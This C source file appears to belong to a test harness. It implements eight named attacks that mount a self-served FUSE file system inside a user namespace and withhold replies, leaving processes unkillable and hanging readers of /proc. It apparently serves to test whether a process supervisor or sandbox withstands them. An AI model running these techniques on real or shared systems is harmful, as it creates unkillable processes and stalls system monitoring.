/* SPDX-License-Identifier: Apache-2.0 */
/* A file system that a user serves and that never answers: who asks it cannot be ended, as long as who serves it is there. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define PLACE "/tmp/served"
#define NOSUID 2UL
#define NODEV 4UL
#define PAGE 4096

static void say(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		broken("write %s", path);
	close(fd);
}

static int mount_served(void)
{
	char text[128];
	unsigned user = getuid(), group = getgid();

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		absent("a user namespace");
	say("/proc/self/setgroups", "deny");
	snprintf(text, sizeof(text), "0 %u 1", user);
	say("/proc/self/uid_map", text);
	snprintf(text, sizeof(text), "0 %u 1", group);
	say("/proc/self/gid_map", text);
	mkdir(PLACE, 0755);
	/* The kernel asks that it is opened in the namespace. */
	int fd = open("/dev/fuse", O_RDWR);
	if (fd < 0)
		absent("/dev/fuse");
	snprintf(text, sizeof(text), "fd=%d,rootmode=40000,user_id=0,group_id=0", fd);
	if (syscall(SYS_mount, "served", PLACE, "fuse", NOSUID | NODEV, text))
		held("mount a file system of one's own");
	return fd;
}

/* The own number is written to `told`. */
static void answer_init(int fd, uint64_t unique, int told)
{
	struct {
		struct fuse_out_header header;
		struct fuse_init_out init;
	} answer = { { sizeof(answer), 0, unique }, { .major = 7, .minor = 31, .max_write = 4096 } };
	char number[16];
	int length = snprintf(number, sizeof(number), "%d\n", (int)getpid());

	if (write(fd, &answer, sizeof(answer)) < 0 || write(told, number, (size_t)length) != length)
		broken("answer");
}

/* Answers that it is there, and nothing else. `says` is whether it says so of the first that asks more: that one waits by then,
 * and SIGKILL does not end it any more. */
static _Noreturn void answer_nothing(int fd, int told, bool says)
{
	static char request[1 << 17];
	const struct fuse_in_header *header = (const void *)request;

	for (;;) {
		if (read(fd, request, sizeof(request)) < 0)
			broken("read a request");
		if (header->opcode == FUSE_INIT) {
			answer_init(fd, header->unique, told);
		} else if (says) {
			printf("stays\n");
			fflush(stdout);
			says = false;
		}
	}
}

static _Noreturn void serve(int told)
{
	answer_nothing(mount_served(), told, false);
}

static void join(pid_t server, const char *kind)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/ns/%s", (int)server, kind);
	int fd = open(path, O_RDONLY);
	if (fd < 0 || setns(fd, 0))
		held("enter the namespaces of process %d", (int)server);
}

static _Noreturn void ask(pid_t server)
{
	join(server, "user");
	join(server, "mnt");
	printf("stays\n");
	fflush(stdout);
	(void)open(PLACE "/file", O_RDONLY);
	broken("an answer came");
}

/* It says "NUMBER stays". */
static void serve_files(void)
{
	int ends[2];
	char number[16] = "";

	if (pipe(ends))
		broken("pipe");
	pid_t child = fork();
	if (!child)
		serve(ends[1]);
	close(ends[1]);
	if (read(ends[0], number, sizeof(number) - 1) <= 0)
		_exit(0); /* the child has said why */
	printf("%d stays\n", atoi(number));
	fflush(stdout);
	waitpid(child, NULL, 0);
	_exit(0);
}

static void wait_for_served(void)
{
	ask((pid_t)given_number("SERVER"));
}

/* Who serves is nobody's child. */
static void wait_for_orphan(void)
{
	int ends[2];
	char number[16] = "";

	if (pipe(ends))
		broken("pipe");
	pid_t child = fork();
	if (!child) {
		setsid();
		if (fork())
			_exit(0);
		serve(ends[1]);
	}
	close(ends[1]);
	waitpid(child, NULL, 0);
	if (read(ends[0], number, sizeof(number) - 1) <= 0)
		_exit(0);
	ask(atoi(number));
}

/* Who asks has the /dev/fuse open by which the answer would come, and the kernel waits for that to be closed. A user's, of
 * whom the kernel tells what he mounted, is mounted nowhere any more. Returns the place. */
static int serve_itself(void)
{
	int ends[2], fd = mount_served();
	char number[16] = "";

	if (pipe(ends))
		broken("pipe");
	pid_t child = fork();
	if (!child)
		answer_nothing(fd, ends[1], true);
	close(ends[1]);
	int place = open(PLACE, O_PATH | O_DIRECTORY);
	if (read(ends[0], number, sizeof(number) - 1) <= 0)
		_exit(0);
	if (place < 0 || (getuid() && umount2(PLACE, MNT_DETACH)))
		broken("leave the place");
	return place;
}

static void wait_for_itself(void)
{
	(void)openat(serve_itself(), "file", O_RDONLY);
	broken("an answer came");
}

static void *ask_in_thread(void *place)
{
	(void)openat(*(int *)place, "file", O_RDONLY);
	broken("an answer came");
}

static void wait_in_a_thread(void)
{
	static int place;
	pthread_t thread;

	place = serve_itself();
	if (pthread_create(&thread, NULL, ask_in_thread, &place))
		broken("pthread_create");
	syscall(SYS_exit, 0);
}

/* Answers what opens a file, and what reads it, but not what `unanswered` says, nor what closes it. */
static _Noreturn void answer_all_but(int fd, uint32_t unanswered)
{
	static char request[1 << 17];
	const struct fuse_in_header *header = (const void *)request;
	struct {
		struct fuse_out_header header;
		union {
			struct fuse_init_out init;
			struct fuse_entry_out entry;
			struct fuse_attr_out attributes;
			struct fuse_open_out open;
			char content[PAGE];
		} body;
	} answer;

	for (;;) {
		if (read(fd, request, sizeof(request)) < 0)
			_exit(0);
		if (header->opcode == unanswered)
			continue;
		struct fuse_attr file = {
			.ino = header->opcode == FUSE_LOOKUP ? 2 : header->nodeid, .size = PAGE, .mode = S_IFREG | 0777, .nlink = 1,
		};
		if (file.ino == FUSE_ROOT_ID)
			file.mode = S_IFDIR | 0777;
		size_t size = 0;
		memset(&answer, 0, sizeof(answer));
		switch (header->opcode) {
		case FUSE_FLUSH:
		case FUSE_FORGET:
		case FUSE_INTERRUPT: continue;
		case FUSE_INIT:
			answer.body.init = (struct fuse_init_out){ .major = 7, .minor = 31, .max_write = 4096 };
			size = sizeof(answer.body.init);
			break;
		case FUSE_LOOKUP:
			answer.body.entry = (struct fuse_entry_out){ .nodeid = 2, .attr_valid = 1000, .entry_valid = 1000, .attr = file };
			size = sizeof(answer.body.entry);
			break;
		case FUSE_GETATTR:
			answer.body.attributes = (struct fuse_attr_out){ .attr_valid = 1000, .attr = file };
			size = sizeof(answer.body.attributes);
			break;
		case FUSE_OPEN: size = sizeof(answer.body.open); break;
		case FUSE_READ: size = sizeof(answer.body.content); break;
		default: answer.header.error = -ENOSYS;
		}
		answer.header.unique = header->unique;
		answer.header.len = (uint32_t)(sizeof(answer.header) + size);
		if (write(fd, &answer, answer.header.len) < 0)
			_exit(0);
	}
}

/* The kernel closes a file for the program that is executed, holding a lock that readers of /proc/PID/stat wait for. */
static void execute_for_ever(void)
{
	int fd = mount_served();
	pid_t child = fork();

	if (!child)
		answer_all_but(fd, FUSE_FLUSH);
	close(fd);
	if (open(PLACE "/file", O_RDWR | O_CLOEXEC) < 0)
		broken("open the served file");
	printf("stays\n");
	fflush(stdout);
	execl("/bin/sleep", "sleep", "1000", NULL);
	broken("it was executed");
}

/* A page of a file that it serves itself. */
static void *map_served(uint32_t unanswered)
{
	int fd = mount_served();
	pid_t child = fork();

	if (!child)
		answer_all_but(fd, unanswered);
	int file = open(PLACE "/file", O_RDWR | O_CLOEXEC);
	void *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
	if (file < 0 || page == MAP_FAILED)
		broken("map the served file");
	return page;
}

/* The kernel reads the list of a task's locks when the task exits. Who exits by himself gets no signal any more, and waits as one
 * that sleeps. */
static void exit_into_itself(void)
{
	if (syscall(SYS_set_robust_list, map_served(FUSE_READ), 24UL))
		broken("set_robust_list");
	printf("stays\n");
	fflush(stdout);
	syscall(SYS_exit_group, 0);
}

/* A core file is written into the working directory. */
static void dump_into_itself(void)
{
	const struct rlimit all = { RLIM_INFINITY, RLIM_INFINITY };
	int fd = mount_served();
	pid_t child = fork();

	if (!child)
		answer_all_but(fd, FUSE_LOOKUP);
	if (setrlimit(RLIMIT_CORE, &all))
		held("have a core file");
	if (chdir(PLACE) || prctl(PR_SET_DUMPABLE, 1UL, 0UL, 0UL, 0UL))
		broken("prepare a core file");
	printf("stays\n");
	fflush(stdout);
	abort();
}

const struct attack served_file_attacks[] = {
	{ "serve-files", serve_files },
	{ "wait-for-served", wait_for_served },
	{ "wait-for-orphan", wait_for_orphan },
	{ "wait-for-itself", wait_for_itself },
	{ "wait-in-a-thread", wait_in_a_thread },
	{ "execute-for-ever", execute_for_ever },
	{ "exit-into-itself", exit_into_itself },
	{ "dump-into-itself", dump_into_itself },
	{ NULL, NULL },
};
